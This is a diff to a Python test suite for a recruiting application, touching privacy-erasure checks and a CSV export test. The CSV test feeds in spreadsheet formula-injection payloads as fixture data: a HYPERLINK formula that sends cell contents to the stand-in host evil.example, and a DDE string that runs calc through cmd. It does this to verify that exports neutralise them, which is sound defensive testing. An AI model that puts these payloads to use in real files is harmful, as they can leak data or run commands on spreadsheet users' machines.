@@ -3,6 +3,7 @@ when they should, backups hold no secrets, erasure leaves nothing behind, export
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date, timedelta
 from pathlib import Path
@@ -248,7 +249,7 @@ def dump_everything(engine: Engine) -> str:
                                        default=str).decode())
         names = inspect(connection).get_table_names()
     assert set(names) >= set(Base.metadata.tables)
-    return "\n".join(chunks).lower()
+    return "\n".join(chunks)
 
 
 class TestErasure:
@@ -267,11 +268,11 @@ class TestErasure:
                 name="Bob Other", target_role="researcher"))
             activities.comment(session, team.recruiter, other.id, "knows Ada Secret from a workshop")
         before = dump_everything(engine)
-        assert all(s.lower() in before for s in self.SECRETS)
+        assert all(s in before for s in self.SECRETS)
         with db.session_scope(engine) as session:
             privacy.erase_person(session, team.hr, cid, "request by the person")
         after = dump_everything(engine)
-        leaks = [s for s in self.SECRETS if s.lower() in after]
+        leaks = [s for s in self.SECRETS if s in after]
         with db.session_scope(engine) as session:
             kept = deals.get_deal(session, team.executive, d.id).notes
             said = activities.timeline(session, team.recruiter, other.id)[-1].body
@@ -298,14 +299,15 @@ class TestCsvFormulas:
             self, engine: Engine, team: Team, tmp_path: Path) -> None:
         evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
         with db.session_scope(engine) as session:
-            for name in (evil, "+1 trick", "-2 trick", "@SUM(A1)", "\tTabbed", "Plain"):
+            for name, notes in ((evil, "\r=cmd|' /C calc'!A0"), ("+1 trick", "\tTabbed"), ("-2 trick", None),
+                                ("@SUM(A1)", None), ("Plain", "=1+1")):
                 candidates.create_candidate(session, team.recruiter, CandidateIn(
-                    name=name, target_role="researcher", notes="\r=cmd|' /C calc'!A0"))
+                    name=name, target_role="researcher", notes=notes))
             out = io.StringIO()
             csvio.export_candidates(session, team.recruiter, out)
-        for line in out.getvalue().splitlines()[1:]:
-            for cell in line.split(","):
-                assert not cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
+        for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
         again = tmp_path / "again.csv"
         again.write_text(out.getvalue(), encoding="utf-8")
         with db.session_scope(engine) as session:
